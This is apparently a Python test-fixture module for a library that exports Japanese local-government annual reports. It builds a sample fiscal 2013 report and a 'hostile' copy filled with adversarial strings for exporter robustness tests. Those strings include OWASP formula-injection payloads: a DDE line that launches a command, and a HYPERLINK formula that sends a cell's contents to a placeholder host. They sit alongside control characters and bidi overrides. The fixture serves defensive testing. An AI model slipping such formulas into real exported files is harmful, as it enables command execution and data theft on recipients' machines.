"""Sample documents for tests and the conformance suite: small, complete, and hostile."""

from __future__ import annotations

from decimal import Decimal

import attrs

from clairlib.calendar import FiscalYear, Period, PeriodSet
from clairlib.model import (
    AgendaItem,
    AnnualReport,
    Block,
    BlockKind,
    Board,
    Breakdown,
    BreakdownItem,
    Column,
    ColumnRole,
    CountingBasis,
    Event,
    EventKind,
    Figure,
    Grant,
    Indicator,
    LocalGovernment,
    LocalGovernmentKind,
    Measurement,
    Meeting,
    Officer,
    Organisation,
    ParticipantKind,
    Participants,
    Person,
    Priority,
    Programme,
    Publication,
    Qualifier,
    Quantity,
    Row,
    RowKind,
    Section,
    Selector,
    StaffCount,
    Table,
    Venue,
)

__all__ = ["HOSTILE_STRINGS", "hostile_document", "sample_document"]

HOSTILE_STRINGS: tuple[str, ...] = (
    # OWASP CSV injection payloads and their relatives.
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?q="&A1,"クリック")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "＝１＋１",
    "＠SUM(1)",
    # Characters XML 1.0, terminals or encoders trip over.
    "NUL\x00BEL\x07ESC\x1b DEL\x7f",
    "改行\r\nと\tタブ",
    "行区切り\u2028段落区切り\u2029",
    "右から左\u202e上書き",
    # Beyond cp932 and the Basic Multilingual Plane.
    "絵文字😀と𠮷野家",
    "合成文字 か\u3099",
    'quote " and comma , and semicolon ; and backslash \\',
)
"""Strings an exporter must survive: formula injection, control characters, emoji."""


def sample_document() -> AnnualReport:
    """A small annual report that uses every part of the model an exporter writes."""
    nyc = Venue(text="ニューヨーク", countries=("US",), city="ニューヨーク")
    events = (
        Event(
            id="e1",
            name="ニューヨーク観光展への出展",
            programme="p1",
            offices=("NYC",),
            venue=nyc,
            period=Period.fromisoformat("2013-08"),
            period_text="平成25年8月",
            kind=EventKind.EXHIBITION,
            partners=("JETAA NY",),
            participants=(
                Participants(
                    count=Quantity.of(12, "団体"),
                    kind=ParticipantKind.BODIES,
                    breakdowns=(
                        Breakdown(
                            dimension="local_government_kind",
                            items=(
                                BreakdownItem(key="prefecture", value=Quantity.of(5, "団体")),
                                BreakdownItem(key="municipality", value=Quantity.of(7, "団体")),
                            ),
                        ),
                    ),
                ),
                Participants(
                    count=Quantity.parse("約 1,500 名"),
                    basis=CountingBasis.GROSS,
                    label="来場者",
                ),
            ),
            local_governments=(
                LocalGovernment(
                    name="鎌倉市", kind=LocalGovernmentKind.MUNICIPALITY, prefecture="JP-14"
                ),
                LocalGovernment(name="東京都", kind=LocalGovernmentKind.PREFECTURE, count=2),
            ),
            group="アメリカ",
            tags=("重点", "観光"),
        ),
        Event(
            id="e2",
            name="日韓交流セミナー",
            programme="p1",
            offices=("SEL",),
            venue=Venue(text="ソウル", countries=("KR",)),
            period=PeriodSet.fromisoformat("2013-10-01,2013-10-15/2013-10-16"),
            kind=EventKind.SEMINAR,
            participants=(Participants(count=Quantity.of(80, "名")),),
            description="地方自治体の国際交流担当者向け",
        ),
    )
    table = Table(
        id="t1",
        caption="<平成25年度 観光展等一覧>",
        columns=(
            Column(key="name", label="事業名"),
            Column(key="office", label="事務所"),
            Column(key="bodies", label="参加団体数", role=ColumnRole.SUM, unit="団体"),
        ),
        rows=(
            Row(
                cells={"name": events[0].name, "office": "NYC", "bodies": Quantity.of(12, "団体")},
                group="アメリカ",
                record="e1",
            ),
            Row(
                cells={"name": "計", "office": None, "bodies": Quantity.of(12, "団体")},
                kind=RowKind.TOTAL,
            ),
        ),
        notes=("※参加団体数は延べ数",),
        programme="p1",
    )
    programme = Programme(
        id="p1",
        name="海外における観光・物産展等への参加",
        name_en="Tourism and trade fairs abroad",
        pillar="pillar-1",
        priority=Priority.PRIORITY,
        marker="○",
        offices=("NYC", "SEL"),
        body=(
            Block(text="海外事務所が現地の観光展に出展し、地域の魅力を発信した。"),
            Block(kind=BlockKind.TABLE, ref="t1"),
        ),
    )
    return AnnualReport(
        id="sample-fy2013",
        title="平成25年度事業報告",
        fiscal_year=FiscalYear(2013),
        issuer="一般財団法人自治体国際化協会",
        preamble=(Block(text="平成25年度の事業の概要を報告する。"),),
        sections=(
            Section(
                id="s1",
                number="1",
                title="自治体の海外における経済活動を支援",
                pillar="pillar-1",
                programmes=(programme,),
            ),
        ),
        tables=(table,),
        figures=(
            Figure(
                id="f1",
                label="観光展等の件数",
                value=Quantity.of(2, "件"),
                programme="p1",
                source="prose",
                computed_from=Selector(records="events", where={"programme": "p1"}),
            ),
        ),
        events=events,
        persons=(
            Person(
                id="x1",
                role="研修員",
                programme="p1",
                name="金 民俊",
                origin="ソウル特別市",
                country="KR",
                field="観光",
                host=LocalGovernment(name="鎌倉市", kind=LocalGovernmentKind.MUNICIPALITY),
                period=Period.fromisoformat("2013-04/2014-03"),
            ),
        ),
        grants=(
            Grant(
                id="g1",
                programme="p1",
                name="地域国際化協会助成",
                projects=Quantity.of(24, "件"),
                amount=Quantity.parse("18,909 千円"),
            ),
        ),
        publications=(
            Publication(
                id="b1",
                title="CLAIR REPORT 第380号",
                kind="clair_report",
                office="NYC",
                country="US",
                published_fy=2013,
                accesses=Quantity(
                    value=Decimal("1552"),
                    unit="件",
                    scale=10_000,
                    qualifier=Qualifier.APPROXIMATELY,
                    text="約 1,552 万件",
                ),
            ),
        ),
        indicators=(Indicator(id="k1", name="観光展等への参加件数", unit="件", pillar="pillar-1"),),
        measurements=(
            Measurement(
                id="m1",
                indicator="k1",
                fiscal_year=FiscalYear(2013),
                value=Quantity.of(2, "件"),
                change=Quantity.of("-1", "件"),
                breakdowns=(
                    Breakdown(
                        dimension="office",
                        items=(
                            BreakdownItem(key="NYC", value=Quantity.of(1, "件")),
                            BreakdownItem(key="SEL", value=Quantity.of(1, "件")),
                        ),
                    ),
                ),
            ),
        ),
        meetings=(
            Meeting(
                id="mt1",
                board=Board.DIRECTORS,
                ordinal=59,
                date=Period.fromisoformat("2013-06-04"),
                agenda=(
                    AgendaItem(number=1, title="平成24年度事業報告", outcome="原案どおり可決"),
                ),
            ),
        ),
        organisation=Organisation(
            officers=(Officer(role="理事長", name="木村 陽子"),),
            offices=("HQ", "NYC", "SEL"),
            staff=(StaffCount(office="NYC", rank="所長", count=1),),
        ),
    )


def hostile_document() -> AnnualReport:
    """The sample report with every hostile string in its text fields."""
    sample = sample_document()
    text = " | ".join(HOSTILE_STRINGS)
    events = tuple(
        attrs.evolve(event, name=hostile, description=hostile, group=hostile, tags=(hostile,))
        for event, hostile in zip(
            sample.events * len(HOSTILE_STRINGS), HOSTILE_STRINGS, strict=False
        )
    )
    events = tuple(attrs.evolve(event, id=f"e{n}") for n, event in enumerate(events, 1))
    section = attrs.evolve(
        sample.sections[0],
        title=HOSTILE_STRINGS[1],
        programmes=(
            attrs.evolve(
                sample.sections[0].programmes[0],
                name=HOSTILE_STRINGS[0],
                body=(Block(text=text), Block(kind=BlockKind.TABLE, ref="t1")),
            ),
        ),
    )
    table = sample.tables[0]
    rows = tuple(
        Row(cells={"name": hostile, "office": hostile, "bodies": Quantity.of(1, "団体")})
        for hostile in HOSTILE_STRINGS
    )
    return attrs.evolve(
        sample,
        title=f"平成25年度事業報告 {HOSTILE_STRINGS[1]}",
        preamble=(Block(text=text),),
        sections=(section,),
        tables=(attrs.evolve(table, rows=rows, notes=HOSTILE_STRINGS),),
        events=events,
        measurements=(attrs.evolve(sample.measurements[0], source=text),),
    )
